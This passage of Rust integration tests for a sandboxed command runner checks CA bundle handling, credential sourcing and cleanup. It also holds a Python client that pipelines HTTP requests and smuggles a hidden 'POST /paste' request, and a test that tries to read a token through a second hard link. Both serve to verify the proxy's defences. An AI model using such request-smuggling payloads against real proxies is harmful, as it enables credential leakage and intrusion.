        .env("TOKEN", &s)
        .env("REQUESTS_CA_BUNDLE", &up.ca)
        .args(["-s", "workspace-write", "-C"])
        .arg(work.path())
        .args(flags(&up, &format!("{}=bearer:K", up.host())))
        .args(["-e", "CURL_CA_BUNDLE=/etc/hostname", "--"])
        .arg(format!(
            "grep -c 'BEGIN CERTIFICATE' \"$REQUESTS_CA_BUNDLE\" \"$NODE_EXTRA_CA_CERTS\"; \
             grep -q \"$(sed -n 2p {})\" \"$REQUESTS_CA_BUNDLE\" && echo theirs-kept; \
             echo \"$CURL_CA_BUNDLE\"",
            up.ca.display()
        ))
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    let lines: Vec<&str> = text.lines().collect();
    // Their CA and the run's; the run's alone for Node.
    assert!(lines[0].ends_with(":2"), "{text}");
    assert!(lines[1].ends_with(":1"), "{text}");
    assert_eq!(
        &lines[2..],
        ["theirs-kept", "/etc/hostname", "[exit code: 0]"],
        "{text}"
    );
}

#[test]
fn explain_reads_no_value_and_configured_credentials_stay_out_of_runs_without_an_allow_list() {
    // explain shows the sources; a missing one is no error there.
    let out = dsh()
        .args([
            "explain",
            "--network=allow=api.example.org",
            "--credential=K=env:NOT_SET_ANYWHERE",
            "--inject=api.example.org=bearer:K",
            "--",
            "true",
        ])
        .output()
        .unwrap();
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(String::from_utf8_lossy(&out.stdout).contains("K=env:NOT_SET_ANYWHERE"));
    // The configuration file's credentials: a loopback run ignores them.
    let work = tempfile::tempdir().unwrap();
    let config = work.path().join("c.toml");
    std::fs::write(
        &config,
        "[defaults]\nnetwork_allow = [\"api.example.org\"]\ncredentials = [\"K=env:NOT_SET_ANYWHERE\"]\n\
         inject = [\"api.example.org=bearer:K\"]\n",
    )
    .unwrap();
    let run_with = |net: &str| {
        dsh()
            .env("DSH_EXEC_CONFIG", &config)
            .args([net, "--", "echo ran"])
            .output()
            .unwrap()
    };
    let out = run_with("--network=loopback");
    assert_eq!(
        String::from_utf8_lossy(&out.stdout),
        "ran\n[exit code: 0]\n"
    );
    let out = run_with("--network=allow=api.example.org");
    assert_eq!(out.status.code(), Some(125));
    assert_eq!(
        String::from_utf8_lossy(&out.stderr),
        "dsh-exec: error: --credential K=env:NOT_SET_ANYWHERE: the variable NOT_SET_ANYWHERE is \
         not set (from the configuration file's credentials) (USAGE)\n"
    );
}

#[test]
fn a_ca_directory_a_killed_dsh_exec_left_is_removed_by_the_next_run() {
    use std::os::unix::fs::MetadataExt;
    let ns = std::fs::metadata("/proc/self/ns/pid").unwrap().ino();
    let temp = tempfile::tempdir().unwrap();
    // A pid past pid_max: no such process.
    let stale = temp.path().join(format!("dsh-exec-ca-{ns}-4194305-1-ab"));
    let other_ns = temp
        .path()
        .join(format!("dsh-exec-ca-{}-4194305-1-ab", ns + 1));
    for d in [&stale, &other_ns] {
        std::fs::create_dir(d).unwrap();
        std::fs::write(d.join("ca.pem"), "x").unwrap();
    }
    let out = dsh()
        .env("TOKEN", "v")
        .env("TMPDIR", temp.path())
        .args([
            "--network=allow=api.example.org",
            "--credential=K=env:TOKEN",
            "--inject=api.example.org=bearer:K",
            "--",
            "ls -d \"$(dirname \"$SSL_CERT_FILE\")\" | grep -c dsh-exec-ca-",
        ])
        .output()
        .unwrap();
    assert_eq!(String::from_utf8_lossy(&out.stdout), "1\n[exit code: 0]\n");
    assert!(!stale.exists());
    // Another PID namespace's is not judged; the run's own is gone.
    let left: Vec<_> = std::fs::read_dir(temp.path())
        .unwrap()
        .flatten()
        .map(|e| e.path())
        .collect();
    assert_eq!(left, [other_ns]);
}

#[test]
fn a_file_source_with_another_hard_link_is_refused() {
    let work = tempfile::tempdir().unwrap();
    let file = work.path().join("token");
    std::fs::write(&file, "v\n").unwrap();
    std::fs::hard_link(&file, work.path().join("other")).unwrap();
    let out = dsh()
        .args(["-s", "workspace-write", "-C"])
        .arg(work.path())
        .args([
            "--network=allow=api.example.org",
            "--inject=api.example.org=bearer:K",
        ])
        .arg(format!("--credential=K=file:{}", file.display()))
        .args(["--", "cat other"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(125));
    assert_eq!(
        String::from_utf8_lossy(&out.stderr),
        format!(
            "dsh-exec: error: --credential K=file:{}: the file has 2 hard links; the command \
             could read it through another: copy it to a file of its own (USAGE)\n",
            file.display()
        )
    );
}

#[test]
fn no_byte_crosses_from_one_request_to_the_next_through_the_upstream_connection() {
    let s = secret("desync");
    let up = Upstream::start(&format!("Bearer {s}"), None);
    let work = tempfile::tempdir().unwrap();
    // Two requests on one connection through the proxy, each answer read
    // to the end its framing says; what the second answer shows is printed.
    let client = r#"import base64, os, socket, ssl, sys, time, urllib.parse
u = urllib.parse.urlsplit(os.environ['HTTPS_PROXY'])
s = socket.create_connection((u.hostname, u.port))
a = base64.b64encode(('%s:%s' % (u.username, u.password)).encode()).decode()
s.sendall(('CONNECT localhost:PORT HTTP/1.1\r\nProxy-Authorization: Basic %s\r\n\r\n' % a).encode())
h = b''
while b'\r\n\r\n' not in h:
    h += s.recv(1)
t = ssl.create_default_context(cafile=os.environ['SSL_CERT_FILE']).wrap_socket(s, server_hostname='localhost')
f = t.makefile('rb')
def answer():
    head = b''
    while not head.endswith(b'\r\n\r\n'):
        head += f.read(1)
    n = [int(l.split(b':')[1]) for l in head.split(b'\r\n') if l.lower().startswith(b'content-length')]
    return head + f.read(n[0] if n else 0)
first, body, pipelined = sys.argv[1], sys.argv[2].encode(), sys.argv[3] == 'pipelined'
if body:
    one = ('POST %s HTTP/1.1\r\nHost: localhost:PORT\r\nContent-Length: %d\r\n\r\n' % (first, len(body))).encode() + body
else:
    one = ('GET %s HTTP/1.1\r\nHost: localhost:PORT\r\n\r\n' % first).encode()
two = b'POST /api/x HTTP/1.1\r\nHost: localhost:PORT\r\nContent-Length: 600\r\n\r\n' + b'x' * 600
# The second request as soon as the first answer is read, or in the same
# write: the command chooses when it comes.
if pipelined:
    t.sendall(one + two)
    answer()
else:
    t.sendall(one)
    answer()
    t.sendall(two)
sys.stdout.write(answer().decode('latin-1'))
"#
    .replace("PORT", &up.port.to_string());
    std::fs::write(work.path().join("two.py"), client).unwrap();
    let smuggled = format!(
        "POST /paste HTTP/1.1\r\nHost: localhost:{}\r\nContent-Length: 300\r\n\r\n",
        up.port
    );
    for (first, body, mode) in [
        ("/split", "", "sequential"),
        ("/split", "", "pipelined"),
        ("/early", smuggled.as_str(), "sequential"),
    ] {
        let (v, text) = run(
            work.path(),
            &s,
            &flags(&up, &format!("{}=bearer:K", up.host())),
            &format!("python3 two.py {first} {} {mode}", shell_quote(body)),
        );
        let out = v["stdout"]["text"].as_str().unwrap();
        assert!(out.starts_with("HTTP/1.1 200 OK\r\n"), "{first}: {text}");
        assert!(
            out.contains(r#"{"authorized": true, "path": "/api/x"}"#),
            "{first}: {out}"
        );
        assert!(
            out.contains("X-Echo: [redacted by dsh-exec]"),
            "{first}: {out}"
        );
        assert!(!out.contains("PASTED"), "{first}: {out}");
        assert_absent(&s, &text, work.path(), &v);
    }
}

/// `s` single-quoted for bash.
fn shell_quote(s: &str) -> String {
    format!("'{}'", s.replace('\'', r"'\''"))
}
